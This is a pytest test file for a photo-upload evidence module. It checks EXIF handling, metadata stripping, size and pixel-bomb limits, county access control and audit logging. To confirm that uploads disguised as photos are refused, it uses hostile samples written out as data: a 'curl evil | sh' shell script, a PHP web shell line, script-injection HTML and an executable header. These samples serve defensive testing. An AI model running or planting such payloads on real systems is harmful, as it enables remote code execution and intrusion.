import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from luoshu.apps.acting import Acting
from luoshu.apps.audit.models import AuditEntry
from luoshu.apps.errors import Invalid, NotVisible
from luoshu.apps.evidence.errors import BrokenPhoto, FileTooLarge, NotAPhoto, PhotoTooManyPixels
from luoshu.apps.evidence.models import Attachment, StoredFile
from luoshu.apps.evidence.operations import attach_photo
from luoshu.apps.evidence.queries import attachments_of, find_attachment_for, open_bytes
from luoshu.apps.evidence.sniffing import media_type_of
from tests.apps.evidence.photo_bytes import phone_photo, png_that_claims

pytestmark = pytest.mark.django_db
AT = datetime(2024, 9, 17, 8, 30, tzinfo=UTC)
WORKER = Acting("P-甲", "POST-甲", "grid_worker", ("/410399/",), frozenset({"fires.field"}))
OTHER = Acting("P-乙", "POST-乙", "grid_worker", ("/410398/",), frozenset({"fires.field"}))


def attach(data, **changes):
    values = {
        "by": WORKER,
        "at": AT,
        "data": data,
        "original_name": "现场.jpg",
        "kind": "check",
        "subject_kind": "fire",
        "subject_code": "HD-1",
        "division_path": "/410399/410399100/",
    }
    return attach_photo(**(values | changes))


def test_time_and_place_of_the_photo_go_into_the_row():
    attachment = attach(phone_photo())
    assert attachment.taken_at == datetime(2024, 9, 17, 8, 5, 9, tzinfo=UTC)
    assert (attachment.lat, attachment.lon) == pytest.approx((34.5, 112.25))
    assert list(attachments_of("fire", "HD-1")) == [attachment]


def test_an_offset_in_the_photo_counts():
    attachment = attach(phone_photo(offset="+00:00"))
    assert attachment.taken_at == datetime(2024, 9, 17, 16, 5, 9, tzinfo=UTC)


def test_the_phones_clock_counts_when_the_photo_has_no_time():
    by_phone = AT.astimezone(timezone(timedelta(hours=8)))
    assert attach(phone_photo(taken=""), taken_at=by_phone).taken_at == AT


def test_a_receiver_without_a_fix_gives_no_position():
    attachment = attach(phone_photo(gps=(0.0, 0.0)))
    assert attachment.lon is None
    assert attachment.lat is None


def test_the_shown_copy_carries_no_metadata_and_the_original_stays_whole():
    data = phone_photo()
    attachment = attach(data)
    with open_bytes(attachment.file) as stream:
        assert stream.read() == data
    with open_bytes(attachment.shown_copy) as stream:
        shown = stream.read()
    assert b"31337" in data
    assert b"31337" not in shown
    assert b"Exif" not in shown
    assert not Image.open(io.BytesIO(shown)).getexif()


def test_the_shown_copy_is_turned_upright():
    attachment = attach(phone_photo(size=(640, 480), orientation=6))
    with open_bytes(attachment.shown_copy) as stream:
        assert Image.open(stream).size == (480, 640)


def test_a_large_photo_is_shown_small():
    attachment = attach(phone_photo(size=(4000, 3000)))
    with open_bytes(attachment.shown_copy) as stream:
        assert max(Image.open(stream).size) == 2048


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L", "LA", "P", "1", "I;16"])
def test_every_kind_of_png_is_shown(mode):
    out = io.BytesIO()
    Image.new(mode, (30, 20)).save(out, "PNG")
    with open_bytes(attach(out.getvalue()).shown_copy) as stream:
        assert Image.open(stream).size == (30, 20)


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"#!/bin/sh\ncurl evil | sh\n", "脚本"),
        (b"<?php system($_GET['x']);", "脚本"),
        (b"<html><body onload=alert(1)>", "网页"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "矢量图"),
        (b"MZ\x90\x00" + b"\x00" * 60, "可执行程序"),
        (b"%PDF-1.7", "PDF"),
        (b"\x00\x00\x00\x18ftypheic", "HEIC"),
        (b"\x01\x02\x03", "无法识别"),
    ],
)
def test_what_is_no_photo_is_refused_whatever_its_name(content, word):
    with pytest.raises(NotAPhoto) as caught:
        attach(content, original_name="现场照片.jpg")
    assert word in str(caught.value)
    assert StoredFile.objects.count() == 0
    assert Attachment.objects.count() == 0


def test_a_script_behind_a_jpeg_opening_is_refused():
    with pytest.raises(BrokenPhoto):
        attach(b"\xff\xd8\xff\xe0<script>alert(1)</script>" * 50)


def test_half_a_photo_is_refused():
    data = phone_photo()
    with pytest.raises(BrokenPhoto):
        attach(data[: len(data) // 2])


@pytest.mark.parametrize("edge", [10_000, 30_000, 2_000_000])
def test_a_picture_bomb_is_refused_before_it_unfolds(edge):
    with pytest.raises((PhotoTooManyPixels, BrokenPhoto)):
        attach(png_that_claims(edge, edge))
    assert StoredFile.objects.count() == 0


def test_a_photo_over_the_limit_is_refused(settings):
    settings.LUOSHU_MAX_PHOTO_MB = 1
    with pytest.raises(FileTooLarge):
        attach(io.BytesIO(phone_photo() + b"\0" * 1024 * 1024))


def test_a_photo_for_another_county_is_not_taken():
    with pytest.raises(NotVisible):
        attach(phone_photo(), by=OTHER)


def test_a_photo_of_another_county_looks_as_if_it_did_not_exist():
    attachment = attach(phone_photo())
    assert find_attachment_for(WORKER, attachment.code) == attachment
    with pytest.raises(NotVisible):
        find_attachment_for(OTHER, attachment.code)


def test_attaching_is_on_record():
    attachment = attach(phone_photo())
    entry = AuditEntry.objects.get()
    assert (entry.action, entry.subject_code, entry.detail["attachment"]) == (
        "evidence.attach",
        "HD-1",
        attachment.code,
    )


@given(st.binary(max_size=400), st.integers(0, 2000))
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_photo_with_any_damage_is_kept_or_refused_with_a_sentence(damage, where):
    data = phone_photo(size=(64, 48))
    where %= len(data)
    sentence = "照片已保存"
    try:
        attach(data[:where] + damage + data[where + len(damage) :])
    except Invalid as refusal:
        sentence = str(refusal)
    assert "照片" in sentence


@given(st.binary(max_size=64))
def test_any_opening_has_a_media_type(opening):
    assert "/" in media_type_of(opening)
